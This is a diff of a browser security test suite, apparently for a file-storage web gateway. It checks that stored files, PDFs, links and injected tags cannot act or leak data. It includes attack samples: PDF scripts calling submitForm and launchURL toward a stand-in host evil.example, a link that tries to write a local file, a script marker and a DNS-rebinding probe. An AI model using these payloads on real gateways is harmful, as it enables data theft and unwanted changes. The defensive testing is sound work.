@@ -1,20 +1,26 @@
 // Stored files and other sites' pages that attack. Promise 6.
 import { strict as assert } from "node:assert";
-import { createServer, request as ask } from "node:http";
-import { hostile, hostileNames } from "../samples.mjs";
+import { existsSync } from "node:fs";
+import { createServer } from "node:http";
+import { join } from "node:path";
+import { hostile, hostileNames, sendingPdf } from "../samples.mjs";
 
-/// Somebody else's site: it remembers who came, and serves what it was told.
+/// Somebody else's site, of another name and so another site: it remembers who came and what they
+/// brought, and serves what it was told.
 async function site() {
   const visits = [];
   const pages = {};
-  const server = createServer((request, response) => {
-    visits.push(request.url);
+  const server = createServer(async (request, response) => {
+    const { url, method, headers } = request;
+    let body = "";
+    for await (const piece of request) body += piece;
+    visits.push({ url, method, headers, body });
     response.setHeader("Content-Type", "text/html");
     response.setHeader("Access-Control-Allow-Origin", "*");
-    response.end(pages[request.url] ?? "<p>evil</p>");
+    response.end(pages[url] ?? "<p>evil</p>");
   });
   await new Promise((good) => server.listen(0, "127.0.0.1", good));
-  const url = `http://127.0.0.1:${server.address().port}`;
+  const url = `http://evil.example:${server.address().port}`;
   return { url, visits, pages, close: () => new Promise((good) => { server.closeAllConnections(); server.close(good); }) };
 }
 
@@ -23,40 +29,149 @@ const own = async (grid) => {
   return Object.keys(children).sort();
 };
 
+/// Goes somewhere, where what is there may be saved and not shown.
+const visit = (page, url) => page.goto(url).catch((error) => { if (!/download|ERR_ABORTED/i.test(String(error))) throw error; });
+
+/// What goes out to others, what is done, and what a page says aloud, while a case runs.
+function watch(page, grid) {
+  const seen = { others: [], changes: [], dialogs: 0 };
+  page.on("dialog", (dialog) => { seen.dialogs += 1; dialog.dismiss(); });
+  // Those that the policy blocks never finish.
+  page.on("requestfinished", (request) => { if (/^(http|ws)/.test(request.url()) && !request.url().startsWith(grid.url)) seen.others.push(request.url()); });
+  page.on("request", (request) => {
+    const one = `${request.method()} ${request.url().slice(grid.url.length)}`;
+    if (/^GET \/vdrive\/private(\?|$)|^POST|^PUT|^DELETE/.test(one)) seen.changes.push(one);
+  });
+  return seen;
+}
+
 export async function stored_files_cannot_act({ grid, profile, complaints, figures }) {
   const evil = await site();
   const at = "/vdrive/private/hostile";
   await grid.ask(`${at}?t=mkdir`, { method: "POST" });
   const files = hostile(evil.url);
-  for (const [name, text] of Object.entries(files)) await grid.put(`${at}/${name}`, text);
+  const caps = {};
+  for (const [name, text] of Object.entries(files)) caps[name] = await grid.put(`${at}/${name}`, text);
   const before = await own(grid);
   const page = await profile();
-  const others = [];
-  let dialogs = 0;
-  page.on("dialog", (dialog) => { dialogs += 1; dialog.dismiss(); });
-  // Those that the policy blocks never finish.
-  page.on("requestfinished", (request) => { if (!request.url().startsWith(grid.url) && request.url().startsWith("http")) others.push(request.url()); });
-  const asked = [];
-  page.on("request", (request) => asked.push(`${request.method()} ${request.url().slice(grid.url.length)}`));
+  const seen = watch(page, grid);
   let views = 0;
   for (const name of Object.keys(files)) {
+    const cap = encodeURIComponent(caps[name]);
     const raw = `${at}/${name}`;
-    for (const path of [`${raw}?t=view`, raw, `${raw}?filename=x.html`, `${raw}?filename=x.svg`, `${raw}?t=info`, `${raw}?t=pdf`]) {
-      await page.goto(grid.url + path).catch((error) => { if (!/download|ERR_ABORTED/i.test(String(error))) throw error; });
-      await page.waitForTimeout(60);
+    const named = `filename=${name}`;
+    const paths = [`${raw}?t=view`, raw, `${raw}?filename=x.html`, `${raw}?filename=x.svg`, `${raw}?t=info`,
+      `/uri/${cap}`, `/uri/${cap}?t=view`, `/uri/${cap}?t=view&${named}`, `/uri/${cap}?${named}`, `/file/${cap}/${name}`, `/named/${cap}/x.html?t=info`];
+    for (const path of [...paths, ...(/html|noname/.test(name) ? [`/site/${cap}?filename=x.html`] : [])]) {
+      await visit(page, grid.url + path);
+      await page.waitForTimeout(120);
       assert.equal(await page.evaluate(() => window.__pwned ?? null), null, path);
+      assert.ok(!/URI(:|%3A)/.test(await page.title()), path);
       views += 1;
     }
   }
-  const reads = asked.filter((one) => /^GET \/vdrive\/private(\?|$)|^POST|^PUT|^DELETE/.test(one));
-  assert.deepEqual(reads, [], "a stored file reached another");
+  await page.waitForTimeout(500);
+  assert.deepEqual(seen, { others: [], changes: [], dialogs: 0 }, "a stored file reached another");
   assert.deepEqual(evil.visits, []);
-  assert.deepEqual(others, []);
-  assert.equal(dialogs, 0);
   assert.deepEqual(await own(grid), before);
-  figures.push(`${Object.keys(files).length} hostile files in ${views} views: 0 requests to others, 0 reads of a second file`);
+  figures.push(`${Object.keys(files).length} hostile files in ${views} views, half of them by cap: 0 requests to others, 0 reads of a second file`);
   await evil.close();
   // What was blocked is reported on the console, as it should be.
+  complaints.length = 0;
+}
+
+export async function a_link_out_tells_nothing_and_a_link_in_does_nothing({ grid, profile, complaints, figures }) {
+  const evil = await site();
+  const { url, ask, node, login, end } = await grid.run("linked", grid.introducer, { webport_allow_localfile: "" });
+  const goal = join(node, "written-by-a-link");
+  const stranger = `URI:DIR:${"a".repeat(52)}@tcp:127.0.0.1:9:${"a".repeat(52)}`;
+  const target = `${url}/uri/URI%3ALIT%3Anbswy3dp?t=download&localfile=${encodeURIComponent(goal)}`;
+  const text = `[out](${evil.url}/out) [write](${target}) [dial](${url}/uri/${encodeURIComponent(stranger)}?allow-new-tub=1)\n`;
+  const cap = await (await ask("/uri", { method: "PUT", body: text })).text();
+  const page = await profile({}, false);
+  await page.goto(await login());
+  await page.waitForURL(`${url}/`);
+  await page.goto(`${url}/uri/${encodeURIComponent(cap)}?t=view&filename=page.md`);
+  const follow = async (words) => {
+    const [other] = await Promise.all([page.waitForEvent("popup"), page.click(`.prose a:has-text('${words}')`)]);
+    await other.waitForLoadState();
+    return other;
+  };
+  const out = await follow("out");
+  assert.equal(await out.evaluate(() => window.opener), null);
+  assert.equal(evil.visits.length, 1);
+  const [{ url: path, headers }] = evil.visits;
+  assert.equal(path, "/out");
+  assert.deepEqual([headers.referer, headers.origin, headers.cookie], [undefined, undefined, undefined]);
+  for (const words of ["write", "dial"]) {
+    const other = await follow(words);
+    assert.match(await other.textContent("main"), /A link may not change anything/, words);
+  }
+  assert.ok(!existsSync(goal), "a link wrote a file");
+  // The same by a program with the token, so that the test is about something.
+  assert.equal((await ask(target.slice(url.length))).status, 200);
+  assert.ok(existsSync(goal));
+  figures.push("2 changing links clicked: 0 effects; a link out: no Referer, Origin or Cookie");
+  await end();
+  await evil.close();
+  complaints.length = 0;
+}
+
+export async function a_pdf_sends_nothing_and_changes_nothing({ grid, profile, complaints, figures }) {
+  const evil = await site();
+  const at = "/vdrive/private/documents";
+  await grid.ask(`${at}?t=mkdir`, { method: "POST" });
+  const before = await own(grid);
+  const page = await profile();
+  const own_place = `${grid.url}/vdrive/private?t=mkdir&name=owned`;
+  const tries = (to) => `try{this.submitForm("${to}")}catch(e){} try{this.submitForm({cURL:"${to}",cSubmitAs:"HTML"})}catch(e){} try{app.launchURL("${to}",true)}catch(e){} try{this.getURL("${to}")}catch(e){}`.replace(/[()]/g, "\\$&");
+  for (const [name, to] of [["own", own_place], ["relative", "/vdrive/private?t=mkdir&name=owned"], ["evil", `${evil.url}/pdf`]]) {
+    const cap = await grid.put(`${at}/${name}.pdf`, sendingPdf(to, tries(to)));
+    for (const path of [`${at}/${name}.pdf?t=view`, `/uri/${encodeURIComponent(cap)}?t=view`]) {
+      await page.goto(grid.url + path);
+      const frame = await page.waitForSelector("iframe");
+      assert.match(await frame.getAttribute("src"), /^\/shown\/[a-z2-7]+$/);
+      await page.waitForTimeout(1500);
+      assert.deepEqual(evil.visits, [], `${path} sent something unasked`);
+      // A click that its reader makes may send what is in the form, to wherever; never the cap.
+      await frame.click({ timeout: 5000 }).catch(() => {});
+      await page.waitForTimeout(500);
+      assert.ok(!/URI(:|%3A)/.test(JSON.stringify(evil.visits)), path);
+      evil.visits.length = 0;
+      assert.deepEqual(await own(grid), before, path);
+    }
+  }
+  const shown = await page.getAttribute("iframe", "src").catch(() => null);
+  if (shown) {
+    const inTab = await page.goto(grid.url + shown);
+    assert.equal(inTab.status(), 403, "it can be shown without its page");
+  }
+  figures.push("3 PDFs that send forms, opened and clicked: 0 visits unasked, 0 changes");
+  await evil.close();
+  complaints.length = 0;
+}
+
+export async function a_tag_that_got_into_a_page_finds_nothing_to_run({ grid, profile, complaints, figures }) {
+  const at = "/vdrive/private/injected";
+  await grid.ask(`${at}?t=mkdir`, { method: "POST" });
+  await grid.put(`${at}/a.js`, "window.__pwned = 1");
+  await grid.put(`${at}/a.css`, "body { outline: 7px solid red }");
+  const page = await profile();
+  // Known to the browser already, as something to look at.
+  for (const name of ["a.js", "a.css"]) await visit(page, `${grid.url}${at}/${name}`);
+  await page.goto(`${grid.url}/vdrive/private`);
+  const outcome = await page.evaluate(async (at) => {
+    const tag = (element) => new Promise((good) => {
+      element.onload = () => good("loaded");
+      element.onerror = () => good("refused");
+      document.head.append(element);
+    });
+    const script = Object.assign(document.createElement("script"), { src: `${at}/a.js` });
+    const style = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${at}/a.css` });
+    return [await tag(script), await tag(style), getComputedStyle(document.body).outlineWidth === "7px", window.__pwned ?? null];
+  }, at);
+  assert.deepEqual(outcome, ["refused", "refused", false, null]);
+  figures.push("stored scripts and styles in a page: 0 run");
   complaints.length = 0;
 }
 
@@ -132,11 +247,25 @@ export async function other_sites_change_nothing({ grid, profile, complaints, fi
   await page.waitForTimeout(300);
   for (const frame of page.frames().slice(1)) assert.match(frame.url(), /^chrome-error:/, "it can be framed");
   assert.deepEqual(await own(grid), before);
-  // A name that was bound anew to this machine.
-  const { hostname, port } = new URL(grid.url);
-  const wrong = await new Promise((good, bad) => ask({ hostname, port, path: "/vdrive/global", headers: { Host: `evil.example:${port}` } }, (response) => good(response.statusCode)).on("error", bad).end());
-  assert.equal(wrong, 403);
-  figures.push(`${forms.length} cross-site forms: 0 changes; a wrong Host: ${wrong}`);
+  // A name that was bound anew to this machine, which for the browser is the gateway's own.
+  const { port } = new URL(grid.url);
+  const rebound = await page.goto(`http://rebound.example:${port}/vdrive/global`);
+  assert.equal(rebound.status(), 403);
+  assert.match(await page.textContent("main"), /does not go by that host name/);
+  const stolen = await page.evaluate(() => fetch("/vdrive/global?t=json").then((answer) => answer.status));
+  assert.equal(stolen, 403);
+  // A window that another site opened is not that site's.
+  await page.goto(`${evil.url}/opener`);
+  const [opened] = await Promise.all([page.waitForEvent("popup"), page.evaluate((to) => { window.w = window.open(to); }, `${grid.url}/vdrive/global`)]);
+  await opened.waitForLoadState();
+  await page.waitForFunction(() => window.w.closed);
+  assert.ok(!opened.isClosed());
+  assert.equal(await opened.evaluate(() => window.opener), null);
+  for (const { url, headers } of evil.visits) {
+    assert.ok(!/URI(:|%3A)/.test(url + (headers.referer ?? "")), url);
+    assert.ok(!/tahoe-/.test(headers.cookie ?? ""), "a session's cookie went out");
+  }
+  figures.push(`${forms.length} cross-site forms: 0 changes; a rebound name: ${rebound.status()}; windows held: 0`);
   await evil.close();
   complaints.length = 0;
 }
